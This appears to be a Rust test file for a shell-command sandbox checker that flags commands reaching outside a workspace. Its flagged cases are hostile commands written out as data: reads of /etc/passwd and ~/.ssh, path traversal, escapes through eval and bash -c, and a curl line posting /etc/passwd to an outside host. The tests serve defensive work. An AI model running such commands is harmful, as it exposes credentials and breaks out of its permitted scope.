//! Commands that are let through, and commands that are not.

use super::*;

/// A small world: what there is, and where it leads.
fn standing(path: &Path) -> Standing {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            std::path::Component::ParentDir => drop(plain.pop()),
            other => plain.push(other),
        }
    }
    let text = plain.display().to_string();
    match text.as_str() {
        "/w" | "/w/src" | "/w/src/a.rs" | "/w/awk" => Standing::Inside,
        "/w/out" => Standing::Outside("/home/u/secret".into()),
        "/" | "/home" | "/home/u" | "/home/u/secret" | "/home/u/.ssh" | "/etc" | "/etc/passwd"
        | "/tmp" | "/var/log" => Standing::Outside(plain),
        "/usr/bin/env" | "/bin/sh" | "/usr/include" | "/usr/bin" => Standing::Readable,
        "/dev/null" | "/dev/stdin" | "/tmp/own" => Standing::Free,
        _ => Standing::Missing,
    }
}

fn looked(command: &str) -> Option<String> {
    let known = |name: &str| match name {
        "HOME" => Some("/home/u".to_owned()),
        "PWD" => Some("/w".to_owned()),
        "TMPDIR" => Some("/tmp/own".to_owned()),
        _ => None,
    };
    let view = View {
        workspace: Path::new("/w"),
        known: &known,
        standing: &standing,
    };
    look(command, &view).err().map(|trespass| trespass.word)
}

#[test]
fn what_stays_inside_passes() {
    for command in [
        "ls",
        "cat src/a.rs",
        "cat /w/src/a.rs",
        "cd src && cat ../src/a.rs",
        "cd src; cd ..; ls",
        "(cd src) && cat src/a.rs",
        "/usr/bin/env python3 x.py",
        "/bin/sh run.sh",
        "make >/dev/null 2>&1",
        "cat /dev/stdin",
        "sort -T $TMPDIR a >$TMPDIR",
        "gcc -I/usr/include x.c",
        "PATH=/usr/bin:$PATH make",
        "awk '/re/ {print}' src/a.rs",
        "awk '/etc/' src/a.rs",
        "grep /etc/passwd src/a.rs",
        "sed 's/a/b/' src/a.rs",
        "sed -i '/home/d' src/a.rs",
        "curl http://localhost/etc/passwd",
        "curl https://example.org/home",
        "curl localhost/api/v1",
        "echo /etc/passwd",
        "git commit -m 'do not read /etc/passwd'",
        "cat <<EOF\n/etc/passwd\nEOF",
        "test -e /api/v1",
        "expr 6 / 2",
        "echo $((6 / 2))",
        "ls # /etc",
        "for f in src/*; do echo $f; done",
        "grep -r x . | head",
        "cd $somewhere && cat ../x",
        "cut -d/ -f2 src/a.rs",
        "cut -d '/' -f2 src/a.rs",
        "awk -F/ '{print $2}' src/a.rs",
        "awk -F / '/etc/' src/a.rs",
        "sort -t/ -k2 src/a.rs",
        "while IFS=/ read -r a b; do echo $b; done",
        "case $PWD in /home/*) echo h;; /etc/*) echo e;; esac",
        "[[ $PWD == /home ]] || [ \"$PWD\" != /tmp ] || [[ $x =~ /etc ]]",
        "grep -A 3 /etc src/a.rs",
        "grep -e /etc -e /home src/a.rs",
        "sed -i -e '/etc/d' -e '/home/' src/a.rs",
    ] {
        assert_eq!(looked(command), None, "{command}");
    }
}

#[test]
fn what_leads_out_is_named() {
    for (command, word) in [
        ("cat /etc/passwd", "/etc/passwd"),
        ("cat ../etc/passwd", "../etc/passwd"),
        ("cat src/../../etc/passwd", "src/../../etc/passwd"),
        ("cat ~/secret", "/home/u/secret"),
        ("cat $HOME/secret", "/home/u/secret"),
        ("cat \"${HOME}/.ssh\"", "/home/u/.ssh"),
        ("ls ~", "/home/u"),
        ("cat out", "out"),
        ("cat ./out", "./out"),
        ("cat < /etc/passwd", "/etc/passwd"),
        ("echo x >/etc/passwd", "/etc/passwd"),
        ("echo x > /var/log/new", "/var/log/new"),
        ("echo x >> /usr/include", "/usr/include"),
        ("echo x >out", "out"),
        ("cd .. && ls", ".."),
        ("cd /home; ls", "/home"),
        ("cd src/../.. && ls", "src/../.."),
        ("cd", "/home/u"),
        ("cd src && cat ../../etc/passwd", "../../etc/passwd"),
        ("tar --file=/etc/passwd", "/etc/passwd"),
        ("dd if=/etc/passwd of=x", "/etc/passwd"),
        ("X=/etc/passwd make", "/etc/passwd"),
        ("tar -C/etc x", "/etc"),
        ("curl -d @/etc/passwd http://x.org", "/etc/passwd"),
        ("curl file:///etc/passwd", "/etc/passwd"),
        ("ls /*", "/"),
        ("ls /home/u/*", "/home/u"),
        ("cat /home/u/$x", "/home/u"),
        ("echo $(cat /etc/passwd)", "/etc/passwd"),
        ("echo `cat /etc/passwd`", "/etc/passwd"),
        ("echo \"$(cat '/etc/passwd')\"", "/etc/passwd"),
        ("bash -c 'cat /etc/passwd'", "/etc/passwd"),
        ("eval \"cat /etc/passwd\"", "/etc/passwd"),
        ("sh -c \"bash -c 'cat /etc/passwd'\"", "/etc/passwd"),
        ("true && { cat /etc/passwd; }", "/etc/passwd"),
        ("if cat /etc/passwd; then :; fi", "/etc/passwd"),
        ("diff <(cat /etc/passwd) x", "/etc/passwd"),
        ("cat $(pwd)/../etc/passwd", "/w/../etc/passwd"),
        ("grep x /etc/passwd", "/etc/passwd"),
        ("find / -name x", "/"),
        ("docker run -v /home:/x y", "/home"),
        ("env cat /etc/passwd", "/etc/passwd"),
        ("/home/u/secret", "/home/u/secret"),
        ("cat '/etc'/\"passwd\"", "/etc/passwd"),
        ("cat /etc/pass\\wd", "/etc/passwd"),
        ("grep -A 3 x /etc/passwd", "/etc/passwd"),
        ("grep -e x /etc/passwd", "/etc/passwd"),
        ("sed -e p -e q /etc/passwd", "/etc/passwd"),
        ("cut -d/ -f2 /etc/passwd", "/etc/passwd"),
        ("case $x in a) cat /etc/passwd;; esac", "/etc/passwd"),
        ("[ a = b ] || cat /etc/passwd", "/etc/passwd"),
        ("for f in /home/*; do cat $f; done", "/home"),
    ] {
        assert_eq!(looked(command).as_deref(), Some(word), "{command}");
    }
}
